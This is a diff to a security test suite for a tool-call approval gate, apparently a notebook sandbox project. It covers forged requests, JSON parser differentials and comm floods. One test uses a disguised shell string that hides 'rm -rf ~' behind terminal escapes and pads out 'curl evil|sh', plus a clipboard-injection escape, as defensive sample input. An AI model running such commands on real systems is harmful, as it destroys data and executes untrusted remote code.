@@ -177,7 +177,7 @@ except Exception as e:
 ''')
     assert forged.stdout == "ToolDenied\n" and len(asked.requests) == 3
     approved, denied, forged_request = asked.requests
-    assert approved.seq != denied.seq != forged_request.seq
+    assert len({approved.seq, denied.seq, forged_request.seq}) == 3  # three separate requests
     assert approved.args_sha256 == denied.args_sha256 == forged_request.args_sha256
 
 
@@ -231,16 +231,17 @@ def test_PR2_host_never_unpickles(hostile) -> None:
     assert "invalid JSON: not UTF-8" in events(hostile, "protocol-error")[-1]["error"]
 
 
-@pytest.mark.parametrize(("raw_args", "value"), [
-    ('{"a": 1, "a": 2}', None),   # duplicate key
-    ('{"a": 1e309}', None),       # overflows to infinity
-    ('{"a": NaN}', None),
+@pytest.mark.parametrize("raw_args", [
+    '{"text": "a", "text": "b"}',  # duplicate key
+    '{"text": 1e309}',             # overflows to infinity
+    '{"text": NaN}',
 ])
-def test_G7_parser_differentials_are_dropped(hostile, raw_args: str, value: object) -> None:
-    before = rejected(hostile)
+def test_G7_parser_differentials_are_dropped(hostile, raw_args: str) -> None:
+    before, echoes = rejected(hostile), counts(hostile).get("echo", 0)
     result = hostile.execute(f"call_id, frames = call_frame('echo', None, raw_args={raw_args!r})\nsend(frames)\nprint('sent')")
     assert result.ok
     assert rejected(hostile) == before + 1
+    assert counts(hostile).get("echo", 0) == echoes  # neither reading of the arguments reached the tool
     assert_alive(hostile)
 
 
@@ -253,7 +254,7 @@ def test_G7_strict_types_never_reach_the_tool(hostile, value: str) -> None:
 
 
 def test_G8_approval_view_shows_control_characters_visibly(tmp_path: Path) -> None:
-    from cellgate.gate.approval import ApprovalRequest, QueueApprover, args_digest, describe_request
+    from cellgate.gate.approval import ApprovalRequest, args_digest, describe_request
 
     args = {"cmd": "ls\x1b[2K\r\u202erm -rf ~\u200d" + " " * 10_000 + "curl evil|sh", "clip": "\x1b]52;c;ZXZpbA==\x07"}
     request = ApprovalRequest(id="s-1", session="s", seq=1, tool="shell", args=args, args_sha256=args_digest(args),
@@ -264,12 +265,10 @@ def test_G8_approval_view_shows_control_characters_visibly(tmp_path: Path) -> No
     assert "tools.shell(\\x1b[31mred)" in shown
     assert args_digest(args) in shown
     # The queue file and the CLI listing show the same escaped view.
-    queue = QueueApprover(tmp_path)
     (tmp_path / "s-1.request.json").write_text(json.dumps(request.__dict__))
     listed = subprocess.run([sys.executable, "-m", "cellgate.gate.cli", "approvals", "list"], capture_output=True,
                             text=True, env={**os.environ, "CELLGATE_APPROVALS_DIR": str(tmp_path)}).stdout
     assert "\x1b" not in listed and "\u202e" not in listed and "⟨10000 blanks⟩" in listed
-    del queue
 
 
 def test_G9_no_gate_endpoint_is_reachable_from_the_sandbox(hostile) -> None:
@@ -361,13 +360,17 @@ fut = await_reply(call_id)
 send(signed("comm_msg", {"comm_id": stray, "data": {"op": "call", "id": call_id, "tool": "echo", "args": {"text": "x"}}}))
 for _ in range(20000):                         # a flood of gate comms
     send(signed("comm_open", {"comm_id": uuid.uuid4().hex, "target_name": COMM_TARGET, "data": {}}))
+print(call_id)
 try:
     fut.result(3)
     print("served")
 except Exception as e:
     print("not served:", type(e).__name__)
 ''')
-    assert result.stdout == "not served: TimeoutError\n"
+    call_id, outcome = result.stdout.splitlines()
+    assert outcome == "not served: TimeoutError"
+    # Not merely slow: the gate never took the stray call as a call (no record of it at all).
+    assert not [e for e in journal(hostile) if e["event"].startswith("call") and call_id in json.dumps(e)]
     service = hostile.session.provisioner.service
     assert len(service._gate_comms) <= 64
     flooded = [e for e in events(hostile, "protocol-error") if "gate comms opened" in e.get("error", "")]
